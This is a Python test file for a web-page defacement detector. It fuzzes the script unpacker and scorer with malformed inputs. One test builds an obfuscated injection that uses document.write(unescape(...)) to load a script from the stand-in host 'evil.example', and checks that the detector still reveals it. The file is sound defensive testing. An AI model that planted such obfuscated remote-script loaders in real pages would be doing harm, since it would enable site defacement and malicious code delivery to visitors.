"""No way to write a script stops the judgement: what cannot be judged would be where an attacker hides."""

from __future__ import annotations

import pytest
from escapes import HALVES, SCRIPTS
from hypothesis import example, given, settings

from probes.defacement.page import judge_page
from probes.defacement.plaincode import plain_code
from probes.defacement.unpack import unpack
from socd.resources import rules_dir
from socd.rules import RuleBook

RULES = RuleBook.load(rules_dir())


def read(script: str) -> None:
    for piece in (*unpack(f"<script>{script}</script>"), plain_code(script)):
        piece.encode()  # no half of a character is left in it
    verdict = judge_page(f"<p>a</p><script>{script}".encode(), content_type=None, url="https://x.gov.vn/", rules=RULES)
    assert 0 <= verdict.score <= 1


@settings(max_examples=300, deadline=None)
@given(SCRIPTS)
@example("unescape('" + "%ud800" * 20 + "')")
@example("String.fromCharCode(" + "55296," * 20 + ")")
@example("(" * 5_000)
@example(".replace(/" + "(" * 70 + "/,'')")
def test_any_script_is_read(script: str) -> None:
    read(script)


@pytest.mark.prove
@pytest.mark.timeout(1800)
@settings(max_examples=30_000, deadline=None)
@given(SCRIPTS)
def test_thirty_thousand_scripts_are_read(script: str) -> None:
    read(script)


def test_halves_of_characters_do_not_hide_what_stands_beside_them() -> None:
    for half in HALVES:
        code = "".join(f"%{ord(char):02x}" for char in "<script src=//evil.example/kit.js></script>")
        body = f"<script>x='{half}';document.write(unescape('{code}'))</script>".encode()
        assert "evil.example" in plain_code(body.decode()) or "evil.example" in "".join(unpack(body.decode()))
